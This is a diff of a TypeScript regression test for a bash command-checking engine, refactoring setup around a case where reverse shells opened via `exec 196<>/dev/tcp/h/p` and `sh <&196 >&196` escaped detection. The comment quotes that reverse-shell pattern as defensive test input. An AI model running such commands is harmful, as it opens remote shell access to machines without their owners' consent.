@@ -1,17 +1,10 @@
 // Regression: `exec 196<>/dev/tcp/h/p` yielded no fact (tree-sitter-bash has no `<>` operator and
 // left an ERROR node as the redirect's target), so reverse shells that keep the socket on a
 // descriptor (`sh <&196 >&196`) were allowed.
-import { beforeAll, describe, expect, it } from 'vitest';
-import type { Engine } from '../../src/engine/engine.js';
-import { testEngine } from '../helpers/engine.js';
+import { describe, expect, it } from 'vitest';
+import { bashRuleIds } from '../helpers/engine.js';
 
-let engine: Engine;
-beforeAll(async () => {
-  engine = await testEngine({ config: { cacheEntries: 0 } });
-});
-
-const rules = (text: string): string[] =>
-  engine.evaluate({ text, runtime: 'bash' }).decision.findings.map((f) => f.ruleId);
+const rules = bashRuleIds();
 
 describe('/dev/tcp on a descriptor opened by exec', () => {
   it.each([
